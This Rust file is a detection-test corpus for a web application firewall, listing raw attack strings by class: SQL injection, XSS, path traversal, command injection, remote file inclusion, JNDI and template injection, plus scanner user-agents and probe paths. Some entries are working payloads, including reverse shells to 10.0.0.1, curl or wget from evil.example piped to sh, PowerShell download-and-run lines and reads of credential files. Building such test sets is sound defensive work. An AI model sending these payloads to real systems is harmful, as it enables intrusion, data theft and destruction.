//! Attack corpus for the WAF tier's detection tests, written for this crate (not copied from a
//! public list). Values are raw, as they arrive on the wire (percent-encoding included).

use palisade::waf::Location;

/// A class under test: name, finding classes that count as detection, and its cases.
pub struct Class {
    pub name: &'static str,
    pub accept: &'static [&'static str],
    pub cases: Vec<(Location, &'static str, &'static str)>,
}

fn q(values: &[&'static str]) -> Vec<(Location, &'static str, &'static str)> {
    values.iter().map(|v| (Location::QueryArg, "q", *v)).collect()
}

pub fn sqli() -> Class {
    let mut cases = q(&[
        "1' or '1'='1",
        "' or 1=1--",
        "admin'--",
        "admin' #",
        "1 union select username,password from users",
        "-1 UNION ALL SELECT NULL,NULL,NULL--",
        "1'/**/UNION/**/SELECT/**/1,2,3--",
        "1%27%20OR%20%271%27%3D%271",
        "1%2527%2520or%25201%253D1--",
        "1' AND SLEEP(5)-- -",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1; SELECT pg_sleep(10)--",
        "1' AND extractvalue(1,concat(0x7e,(select version())))-- ",
        "1' and updatexml(1,concat(0x7e,user()),1)#",
        "' UNION SELECT table_name FROM information_schema.tables--",
        "1; DROP TABLE users--",
        "'; exec master..xp_cmdshell 'dir'--",
        "1 AND 1=1",
        "1' AND '1'='1",
        "\" or \"\"=\"",
        "') or ('a'='a",
        "1)) OR ((1=1",
        "1 oR 1=1",
        "1'%09or%091=1--",
        "1'%0aor%0a1=1%23",
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "1' ORDER BY 5--+",
        "1 GROUP BY 1,2 HAVING 1=1--",
        "1' AND BENCHMARK(5000000,MD5(1))#",
        "1' union select load_file('/etc/passwd')-- ",
        "' union select 1,'x' into outfile '/var/www/s.php'--",
        "1 and ascii(substring((select database()),1,1))>64",
        "1' and (select count(*) from users)>0--",
        "' || '1'='1",
        "%27%20uNiOn%20sElEcT%20@@version%23",
        "1;shutdown--",
        "' AND 1=CONVERT(int,(SELECT @@version))--",
        "1 AND 5678=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)",
        "-1' union select char(117,115,101,114),2--",
        "&#39; or &#39;1&#39;=&#39;1",
        "1 UNION%0bSELECT 1,2",
        "1'%20uni%6fn%20sel%65ct%201--",
        "x' or 'x'='x",
    ]);
    cases.push((Location::Cookie, "uid", "1' or '1'='1"));
    cases.push((Location::JsonString, "user.name", "admin' --"));
    cases.push((Location::FormField, "id", "1+union+select+1,2,3--"));
    cases.push((Location::Header, "referer", "https://example.com/?id=1' and sleep(5)#"));
    Class {
        name: "sqli",
        accept: &["sqli"],
        cases,
    }
}

pub fn xss() -> Class {
    let mut cases = q(&[
        "<script>alert(1)</script>",
        "<ScRiPt>alert(document.cookie)</sCrIpT>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg onload=alert&#40;1&#41;>",
        "<body onload=alert('x')>",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=prompt(1)>",
        "\" onmouseover=\"alert(1)",
        "' autofocus onfocus='alert(1)",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.domain)",
        "java%09script:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "data:text/html,<b>hi</b>",
        "<div style=\"width:expression(alert(1))\">",
        "vbscript:msgbox(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "';alert(String.fromCharCode(88,83,83))//",
        "\";alert(1);//",
        "</script><script>alert(1)</script>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><input type=submit>",
        "<button formaction=javascript:alert(1)>x",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cimg src=x onerror=alert(1)\\x3e",
        "<img src=x onerror%0a=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<base href=\"javascript:alert(1)//\">",
        "<x onclick=alert(1)>click",
        "%u003Csvg%u0020onload%u003Dalert(1)%u003E",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "{{$on.constructor('alert(1)')()}}",
        "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
        "<p style=\"-moz-binding:url(//x/x.xml#x)\">",
    ]);
    cases.push((Location::JsonString, "comment.body", "<img src=x onerror=alert(1)>"));
    cases.push((Location::Cookie, "pref", "%3Csvg%2Fonload%3Dalert(1)%3E"));
    cases.push((
        Location::Header,
        "referer",
        "https://x.example/?q=<script>alert(1)</script>",
    ));
    Class {
        name: "xss",
        accept: &["xss"],
        cases,
    }
}

pub fn lfi() -> Class {
    let mut cases = q(&[
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%252e%252e%252fetc%252fpasswd",
        "..%2f..%2f..%2fetc%2fshadow",
        "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd",
        "....//....//etc/passwd",
        "/etc/passwd",
        "/proc/self/environ",
        "c:\\windows\\win.ini",
        "C:/boot.ini",
        "/WEB-INF/web.xml",
        "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
        "%uff0e%uff0e%uff0fetc%uff0fpasswd",
        "../../../../var/log/apache2/access.log",
        "....\\/....\\/etc/passwd",
        "..%00/etc/passwd",
        "/../../../../proc/self/cmdline",
        "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
        "..%252f..%252f..%252fetc%252fgroup",
        "../../../../../../root/.ssh/id_rsa",
        "../../.git/config",
        "../../../wp-config.php",
        "..\\\\..\\\\..\\\\boot.ini",
        "%2e%2e%5c%2e%2e%5cwindows%5csystem.ini",
        "/images/../../../../etc/issue",
        "php/../../../../etc/passwd%00.png",
        "..%c0%af..%c0%afetc%c0%afpasswd",
        "/..%2f..%2f..%2fetc/passwd",
        "../../../etc/shadow",
        "..././..././etc/passwd",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "/var/www/html/../../../etc/passwd",
        "/proc/self/fd/0",
        "../../../../usr/local/apache2/conf/httpd.conf",
        "..%255c..%255c..%255cwindows%255cwin.ini",
        "/META-INF/MANIFEST.MF",
        "&#46;&#46;/&#46;&#46;/etc/passwd",
        "\\x2e\\x2e/\\x2e\\x2e/etc/passwd",
        "..%u2215..%u2215etc%u2215passwd",
    ]);
    cases.push((Location::Path, "path", "/static/..;/..;/WEB-INF/web.xml"));
    cases.push((Location::Path, "path", "/files/..%2f..%2f..%2fetc/passwd"));
    cases.push((Location::Path, "path", "/.env"));
    cases.push((Location::Cookie, "template", "../../../../etc/passwd"));
    Class {
        name: "lfi",
        accept: &["lfi"],
        cases,
    }
}

pub fn rce() -> Class {
    let mut cases = q(&[
        ";cat /etc/passwd",
        "| id",
        "&& whoami",
        "; uname -a",
        "`id`",
        "$(whoami)",
        "127.0.0.1; ls -la",
        "127.0.0.1 | cat /etc/passwd",
        "127.0.0.1 && wget http://evil.example/x.sh",
        ";curl http://evil.example/s|sh",
        ";nc -e /bin/sh 10.0.0.1 4444",
        "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        "%3Bcat%20%2Fetc%2Fpasswd",
        "%0aid",
        "%0a/bin/cat%20/etc/passwd",
        ";cat${IFS}/etc/passwd",
        "|/usr/bin/id",
        "& ping -c 10 127.0.0.1 &",
        ";sleep 10;",
        "$(sleep 5)",
        "`sleep 5`",
        "| powershell -enc SQBFAFgA",
        "& cmd.exe /c dir",
        "| cmd /c whoami",
        "& net user hacker P@ss /add",
        "& ipconfig /all",
        ";python -c 'import os;os.system(\"id\")'",
        ";perl -e 'print 1'",
        "|| echo pwned > /tmp/x",
        "a;rm -rf /",
        ";chmod%20%2bx%20/tmp/x;/tmp/x",
        "%26%26%20whoami",
        "%253Bid",
        ";/bin/bash -c 'id'",
        "x%09%7C%09id",
        "test;ifconfig",
        ";wget${IFS}http://evil.example/a",
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
        "& certutil -urlcache -split -f http://x/a.exe a.exe",
        "| nslookup attacker.example",
        "; echo $(id)",
        ";ncat 10.0.0.1 4444 -e /bin/bash",
        "';id;'",
        "|| type c:\\windows\\win.ini",
    ]);
    cases.push((Location::FormField, "host", "8.8.8.8+%26%26+cat+/etc/passwd"));
    cases.push((
        Location::JsonString,
        "target",
        "example.com; curl -s http://x.example/a | sh",
    ));
    cases.push((
        Location::Header,
        "user-agent",
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    ));
    Class {
        name: "rce",
        accept: &["rce"],
        cases,
    }
}

pub fn rfi() -> Class {
    let cases = q(&[
        "http://evil.example/shell.txt?",
        "https://evil.example/c99.php",
        "http://10.1.2.3/x.php",
        "php://filter/convert.base64-encode/resource=index.php",
        "php://input",
        "file:///etc/passwd",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "expect://id",
        "phar://uploads/avatar.jpg/shell.php",
        "zip://uploads/a.zip%23shell.php",
        "ftp://evil.example/shell.txt?",
        "http://evil.example/r57.txt??",
        "HtTp://EVIL.example/Shell.PHP?",
        "http%3A%2F%2Fevil.example%2Fshell.txt%3F",
        "http%253A%252F%252Fevil.example%252Fwebshell.php",
        "glob:///var/www/*",
        "compress.zlib://file.gz",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict://127.0.0.1:11211/stats",
        "ldap://evil.example/a",
        "http://192.168.1.66/inc.txt",
        "PHP://filter/read=string.rot13/resource=config.php",
        "http://evil.example/backdoor.php?cmd=id",
        "http://evil.example/?",
        "https://evil.example/payload.txt%00",
        "jar:http://evil.example/a.jar!/",
        "file://c:/windows/win.ini",
        "php://filter/resource=../../../etc/passwd",
        "data://text/plain,hello",
        "http://1.2.3.4/bot.pl",
        "ftp://10.0.0.5/cmd.txt",
        "zip:///tmp/upload.zip#x.php",
        "expect://ls%20-la",
        "http://evil.example/wso.php",
        "https://evil.example/b374k.php?",
        "php%3A%2F%2Finput",
        "ogg://x",
        "rar://archive.rar#shell.php",
        "http://evil.example/phpshell.txt",
        "http://evil.example/a.txt?",
        "%68%74%74%70://evil.example/inc.txt?",
    ]);
    Class {
        name: "rfi",
        accept: &["rfi"],
        cases,
    }
}

pub fn injection() -> Class {
    let mut cases = q(&[
        "<?php system($_GET['c']); ?>",
        "<?=`ls`?>",
        "eval(base64_decode('ZWNobyAxOw=='))",
        "system('id')",
        "shell_exec(\"whoami\")",
        "passthru($_REQUEST['x'])",
        "phpinfo()",
        "assert($_POST[x])",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "Runtime.getRuntime().exec(\"id\")",
        "new java.lang.ProcessBuilder(\"id\").start()",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
        "Class.forName(\"java.lang.Runtime\")",
        "require('child_process').exec('id')",
        "process.mainModule.require('child_process').execSync('id')",
        "global.process.mainModule.constructor._load('child_process')",
        "__proto__[isAdmin]=true",
        "constructor[prototype][isAdmin]=1",
        "{\"__proto__\":{\"polluted\":true}}",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{self.__init__.__globals__.__builtins__}}",
        "{% import os %}{{ os.popen('id').read() }}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x=$rt.getRuntime())",
        "*{7*7}",
        "{{request.application.__globals__}}",
        "file_put_contents('s.php','x')",
        "this.constructor.constructor('return process')()",
        "include($_GET['page'])",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "%24%7B%24%7Blower%3Aj%7Dndi%3Adns%3A%2F%2Fx%7D",
    ]);
    cases.push((Location::QueryArg, "__proto__[admin]", "1"));
    cases.push((Location::JsonString, "constructor.prototype.isAdmin", "true"));
    cases.push((Location::Header, "user-agent", "${jndi:ldap://evil.example/ua}"));
    cases.push((
        Location::Header,
        "x-api-version",
        "${${upper:j}ndi:ldap://evil.example/h}",
    ));
    Class {
        name: "injection",
        accept: &["php", "java", "node", "ssti", "proto-pollution"],
        cases,
    }
}

pub fn scanner() -> Class {
    let uas = [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "gobuster/3.6",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "Acunetix-Agent/1.0",
        "Mozilla/5.0 (compatible; Nessus)",
        "OpenVAS-VT 21.4",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/108.0 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) w3af.org",
        "Havij",
        "fimap.googlecode.com",
        "Wfuzz/3.1.0",
        "Fuzz Faster U Fool v2.1.0-dev",
        "feroxbuster/2.10.0",
        "Mozilla/5.0 (compatible; Netsparker)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1) AppScan",
        "Arachni/v1.5.1",
        "Mozilla/5.0 SF/2.10b (skipfish)",
        "ZmEu",
        "Morfeus Scanner",
        "Mozilla/5.0 Jorgee",
        "commix/v3.8-stable (https://commixproject.com)",
        "WhatWeb/0.5.5",
        "XSStrike/3.1.5",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; DirB)",
        "Mozilla/5.0 (Hydra)",
        "Paros/3.2.13",
        "HP WebInspect",
        "QualysGuard scanner",
        "SQLMAP/1.5#stable (http://sqlmap.org)",
        "Uniscan 6.3",
        "OWASP Joomla! Vulnerability Scanner joomscan",
        "droopescan",
        "CMSmap",
        "Mozilla/5.0 (compatible; Nmap NSE)",
        "nikto/2.5.0",
        "Mozilla/5.0 (X11; Linux x86_64) ZAP/2.14 (zaproxy)",
        "bsqlbf 2.7",
        "Mozilla/5.0 (interactsh)",
    ];
    let cases = uas.iter().map(|ua| (Location::Header, "user-agent", *ua)).collect();
    Class {
        name: "scanner",
        accept: &["scanner.ua"],
        cases,
    }
}

/// Paths typical of automated probes: weak signals, expected to produce a notice finding only.
pub const SCANNER_PATHS: &[&str] = &[
    "/wp-admin/install.php",
    "/wp-login.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/cgi-bin/test.cgi",
    "/manager/html",
    "/actuator/env",
    "/server-status",
    "/.DS_Store",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
];

/// Every class, in the order the detection tables list them.
pub fn all() -> [Class; 7] {
    [sqli(), xss(), lfi(), rce(), rfi(), injection(), scanner()]
}
